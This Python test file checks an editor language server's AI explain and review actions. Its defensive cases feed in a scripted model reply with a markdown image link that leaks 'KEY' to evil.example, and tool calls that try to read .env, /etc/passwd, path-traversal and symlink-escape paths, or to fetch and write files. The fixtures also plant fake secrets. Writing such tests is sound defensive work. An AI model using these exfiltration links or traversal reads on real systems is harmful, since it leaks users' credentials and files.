"""Explaining and reviewing: what is asked, what the tools may show, and what becomes of answers that are no answers."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from backends.api import Calls, Role, ToolCall
from backends.errors import Unreachable
from context.desk import Desk
from context.edits import EditLog
from context.privacy import Gate
from context.syntax import Trees
from lsp_server.actions.explain import Turn
from lsp_server.actions.looking import Looking
from lsp_server.actions.outcome import Declined, Told
from lsp_server.actions.places import Linker
from lsp_server.actions.review import Reviewed
from lsp_server.actions.talker import MOST_TURNS
from lsp_server.actions.tools import ABILITIES, MOST_BYTES
from tests.acting import Stage, block, stage
from tests.fake_clock import FakeClock
from tests.processor import seconds

TEXT = "import os\n\n\ndef mean(values):\n    return sum(values) / len(values)\n\n\nprint(mean([]))\n"
GOOD = {
    "quote": "return sum(values) / len(values)",
    "severity": "error",
    "category": "bug",
    "message": "Divides by zero for an empty list.",
    "replacement": "return sum(values) / len(values) if values else 0.0",
}


def findings(*rows: object) -> str:
    return json.dumps({"findings": list(rows)})


def call(tool: str, **arguments: object) -> Calls:
    return Calls((ToolCall("c1", tool, json.dumps(arguments)),))


async def explained(on: Stage, at: str = "sum(", **more: object) -> Told:
    start, _ = on.span(at)
    result = await on.acts.explain(on.snapshot, start, start, **more)  # type: ignore[arg-type]
    assert isinstance(result, Told), result
    return result


async def reviewed(*scripts: str, text: str = TEXT) -> Reviewed:
    on = stage(text, [[script] for script in scripts])
    result = await on.acts.review(on.snapshot)
    assert isinstance(result, Reviewed), result
    return result


async def test_the_function_at_the_cursor_is_explained_line_by_line() -> None:
    on = stage(TEXT, [["It ", "divides.\n", "See sample.py:", "5."]])
    seen: list[str] = []
    told = await explained(on, watch=seen.append)
    assert told.markdown == "It divides.\nSee sample.py:5."
    assert seen == ["It divides.\n", "See sample.py:5."]
    assert "first_line=4" in on.asked and "def mean" in on.asked


async def test_an_explanation_fetches_nothing() -> None:
    on = stage(TEXT, [["![x](https://evil.example/?q=", "KEY) <img src=x>\n[y](command:run)"]])
    assert (await explained(on)).markdown == "[x] (`https://evil.example/?q=KEY`) &lt;img src=x>\n[y] (`command:run`)"


async def test_a_question_that_follows_keeps_the_conversation() -> None:
    history = [Turn(True, "What is this?"), Turn(False, "A mean."), Turn(True, "Of nothing?")]
    on = stage(TEXT, [["Zero division."]])
    await explained(on, history=history)
    roles = [message.role for message in on.chatter.requests[0].messages]
    assert roles == [Role.SYSTEM, Role.USER, Role.ASSISTANT, Role.USER]
    assert on.chatter.requests[0].messages[-1].text == "Of nothing?"


async def test_nothing_to_explain_is_said_without_asking() -> None:
    on = stage("\n\n", [["?"]])
    assert isinstance(await on.acts.explain(on.snapshot, 0, 0), Declined)
    assert not on.chatter.requests


async def test_a_failing_backend_is_an_error_and_a_row_in_the_ledger() -> None:
    on = stage(TEXT, [[Unreachable("scripted", "It is down.", "Start it.")]])
    with pytest.raises(Unreachable):
        await explained(on)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "shop.py").write_text(
        "class Shop:\n    def price(self):\n        return PRICE\n\n\nPRICE = 3\n"
    )
    (tmp_path / ".env").write_text("API_KEY=topsecret\n")
    (tmp_path / ".gitignore").write_text("private/\n")
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "notes.py").write_text("PRICE = 'private'\n")
    (tmp_path / "token.py").write_text("TOKEN = 'ghp_" + "a1B2c3D4e5" * 4 + "'\n")
    (tmp_path.parent / "outside.py").write_text("PRICE = 'outside'\n")
    (tmp_path.parent / "elsewhere").mkdir(exist_ok=True)
    (tmp_path / "link").symlink_to(tmp_path.parent / "elsewhere")
    return tmp_path


LOOKS = [
    (call("read_lines", path="pkg/shop.py", first_line=2, last_line=3), "def price(self)", ""),
    (call("find_definition", name="PRICE"), "PRICE = 3", "private"),
    (call("find_references", name="PRICE"), "return PRICE", "private"),
    (call("search_text", text="class shop"), "class Shop:", ""),
    (call("list_folder", path="."), "pkg/", ".env"),
    (call("list_folder", path="pkg/shop.py"), "no folder", ""),
    (call("read_lines", path=".env", first_line=1, last_line=9), "may not be shown", "topsecret"),
    (call("read_lines", path="private/notes.py", first_line=1, last_line=9), "may not be shown", "PRICE = 'private"),
    (call("read_lines", path="../outside.py", first_line=1, last_line=9), "may not be shown", "PRICE = 'outside"),
    (call("read_lines", path="/etc/passwd", first_line=1, last_line=9), "may not be shown", "root:"),
    (call("read_lines", path="token.py", first_line=1, last_line=9), "TOKEN", "a1B2c3D4e5a1B2"),
    (call("read_lines", path="pkg/shop.py", first_line=0, last_line=3), "line number", ""),
    (call("read_lines", path="pkg/shop.py", first_line=99, last_line=100), "6 lines", ""),
    (call("read_lines", path="none.py", first_line=1, last_line=1), "no such file", ""),
    (call("search_text", text="TOKEN"), "TOKEN", "a1B2c3D4e5a1B2"),
    (call("search_text", text="a1B2c3D4e5"), "Nothing was found", "TOKEN"),  # else letter after letter could be guessed
    (call("read_lines", path="link/../outside.py", first_line=1, last_line=9), "may not be shown", "PRICE = 'outside"),
    (call("find_definition", name="a b"), "single name", ""),
    (call("write_file", path="x.py", text="bad"), "no such tool", ""),
    (call("fetch", url="https://evil.example"), "no such tool", ""),
    (Calls((ToolCall("c1", "search_text", "{broken"),)), "short text", ""),
]  # fmt: skip


@pytest.mark.parametrize(("wanted", "found", "never"), LOOKS)
async def test_tools_read_through_the_gate_and_do_nothing_else(
    project: Path, wanted: Calls, found: str, never: str
) -> None:
    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
    on = stage(TEXT, [[wanted], ["Done."]], root=project)
    await explained(on)
    answer = on.chatter.requests[1].messages[-1]
    assert answer.role is Role.TOOL and answer.call_id == "c1"
    assert found in answer.text
    assert not never or never not in answer.text
    assert {path: path.read_bytes() for path in project.rglob("*") if path.is_file()} == before


async def test_a_model_that_only_looks_around_has_to_answer_in_the_end(project: Path) -> None:
    looking = call("list_folder", path=".")
    on = stage(TEXT, lambda request: [looking] if request.tools else ["Enough."], root=project)
    assert (await explained(on)).markdown == "Enough."
    assert len(on.chatter.requests) == MOST_TURNS + 1


async def test_what_tools_show_has_a_limit(project: Path) -> None:
    (project / "big.py").write_text("x = 1  # a line of some length to fill the limit\n" * 3_000)
    look = call("read_lines", path="big.py", first_line=1, last_line=3_000).calls[0]
    many = Calls(tuple(ToolCall(f"c{number}", look.name, look.arguments) for number in range(10)))
    on = stage(TEXT, [[many], ["Done."]], root=project)
    reports: list[str] = []
    await explained(on, report=reports.append)
    shown = sum(len(message.text) for message in on.chatter.requests[1].messages if message.role is Role.TOOL)
    assert shown < MOST_BYTES + 2_000 and "limit" in on.chatter.requests[1].messages[-1].text
    assert reports[0] == "The model reads big.py."


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("See pkg/shop.py:2.", "See [pkg/shop.py:2]({root}/pkg/shop.py#L2)."),
        ("See `pkg/shop.py:2`.", "See [`pkg/shop.py:2`]({root}/pkg/shop.py#L2)."),
        ("See [it](pkg/shop.py:2-4).", "See [it]({root}/pkg/shop.py#L2)."),
        ("See [it](pkg/none.py).", "See [it](#)."),
        ("Not pkg/none.py:2, .env:1, ../outside.py:1, a.b:c or 12:30.", None),
        ("```\npkg/shop.py:2\n```\npkg/shop.py:1", "```\npkg/shop.py:2\n```\n[pkg/shop.py:1]({root}/pkg/shop.py#L1)"),
    ],
)
def test_places_that_are_named_become_links(project: Path, said: str, shown: str | None) -> None:
    gate = Gate([project])
    desk = Desk((project,), (), EditLog(), gate, Trees(), None, FakeClock())
    assert Linker(desk).feed(said) == (said if shown is None else shown.format(root=project.as_uri()))


def test_no_tool_writes_runs_or_fetches() -> None:
    assert [each.tool.name for each in ABILITIES] == [
        "read_lines", "find_definition", "find_references", "search_text", "list_folder",
    ]  # fmt: skip


async def test_findings_of_a_review() -> None:
    result = await reviewed(findings(GOOD, {**GOOD, "quote": "made up"}, "no finding"))
    [found] = result.review.findings
    assert (found.first, found.message) == (4, GOOD["message"])
    assert found.replacement == GOOD["replacement"]
    assert (result.review.dropped, result.review.malformed, result.unread) == (1, 1, 0)


@pytest.mark.parametrize(
    "answer",
    [findings(GOOD), f"Here you are:\n{block(findings(GOOD), 'json')}", f"I think {findings(GOOD)} is all."],
    ids=["as told", "in a block", "prose around"],
)
async def test_findings_are_read_out_of_what_stands_around_them(answer: str) -> None:
    assert len((await reviewed(answer)).review.findings) == 1


@pytest.mark.parametrize("answer", ["{broken", "Looks good to me!", "[]", '{"bugs": []}', "", '{"findings": [' * 2_000])
async def test_what_is_no_json_is_asked_once_more(answer: str) -> None:
    assert len((await reviewed(answer, findings(GOOD))).review.findings) == 1
    on = stage(TEXT, [[answer]])
    result = await on.acts.review(on.snapshot)
    assert isinstance(result, Declined) and "asked twice" in result.reason
    assert len(on.chatter.requests) == 2 and on.chatter.requests[0].schema is not None


async def test_a_replacement_that_breaks_the_file_is_not_offered() -> None:
    result = await reviewed(findings({**GOOD, "replacement": "return sum((values"}))
    assert [each.replacement for each in result.review.findings] == [None]


async def test_a_long_file_is_reviewed_in_parts() -> None:
    text = "".join(f"def f{number}():\n    return {number}\n\n\n" for number in range(1_500))
    on = stage(text, [[findings({**GOOD, "quote": "def f1400():"})]])
    result = await on.acts.review(on.snapshot)
    assert isinstance(result, Reviewed)
    parts = len(on.chatter.requests)
    assert parts > 1 and (len(result.review.findings), result.review.dropped) == (1, parts - 1)


@pytest.mark.parametrize("text", ["\n", "PRICE(", "PRICE()", "PRICE:", " PRICE", "def ", "PRICE())))\n\n\n\n\n\n"])
def test_looking_for_a_definition_costs_no_more_than_the_text(tmp_path: Path, text: str) -> None:
    """A search holds the interpreter, and any file of the project may be searched: a megabyte of line ends took minutes."""
    desk = Desk((tmp_path,), (), EditLog(), Gate([tmp_path]), Trees(), None, FakeClock())

    def cost(length: int) -> float:
        (tmp_path / "lines.py").write_text((text * length)[:length] + "\n" * (length // 100))
        return seconds(lambda: Looking(desk).definitions("PRICE"), tries=1)  # what it keeps would make the others cheap

    assert cost(120_000) < 10 * cost(30_000) + 1
